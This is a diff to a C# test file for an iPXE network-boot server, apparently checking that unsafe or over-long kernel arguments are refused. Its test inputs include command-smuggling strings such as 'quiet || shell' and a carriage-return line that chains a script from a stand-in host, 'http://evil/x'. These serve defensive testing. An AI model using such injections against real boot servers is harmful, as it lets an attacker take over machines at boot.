@@ -83,17 +83,19 @@ public sealed class HttpBootTests(ServerFixture f) : IClassFixture<ServerFixture
     }
 
     [Fact]
-    public async Task Script_KernelArgsWithIpxeOperators_AreRefused()
+    public async Task Script_KernelArgsTheScriptCannotHold_AreRefused()
     {
         var (_, body, _) = await Tools.CurlAsync($"{f.Http}/boot/{ServerFixture.UrlMac(5)}.ipxe");
         var script = Text(body);
         Assert.DoesNotContain(script.Split('\n'), l => l.StartsWith("kernel ", StringComparison.Ordinal));
-        Assert.DoesNotContain("||", script.Split('\n').First(l => l.StartsWith("echo", StringComparison.Ordinal)), StringComparison.Ordinal);
-        Assert.Contains("kernel arguments were refused", script, StringComparison.Ordinal);
-        Assert.DoesNotContain("||shell", script.Replace(" ", "", StringComparison.Ordinal), StringComparison.Ordinal);
+        Assert.Contains("characters long; at most 1536 fit", script, StringComparison.Ordinal);
+        Assert.DoesNotContain(ServerFixture.LongKernelArgs, script, StringComparison.Ordinal);
     }
 
     [Theory]
+    [InlineData("quiet || shell")]
+    [InlineData("a ; shell")]
+    [InlineData("quiet # rest")]
     [InlineData("quiet\nshell")]
     [InlineData("quiet ${shell}")]
     [InlineData("quiet\rchain http://evil/x")]
